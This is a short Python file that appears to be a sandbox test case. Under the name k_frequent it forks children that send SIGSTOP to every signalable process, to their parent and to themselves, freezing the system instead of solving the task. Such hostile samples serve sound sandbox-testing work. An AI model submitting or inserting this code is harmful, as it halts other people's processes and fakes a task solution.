# expect: wall
# Stops all that it may stop, itself included.
import os
import signal


def stop(pid):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        pass


def k_frequent(nums, k):
    for _ in range(3):
        if os.fork() == 0:
            stop(-1)
            stop(os.getppid())
            os._exit(0)
    stop(-1)
    os.kill(os.getpid(), signal.SIGSTOP)
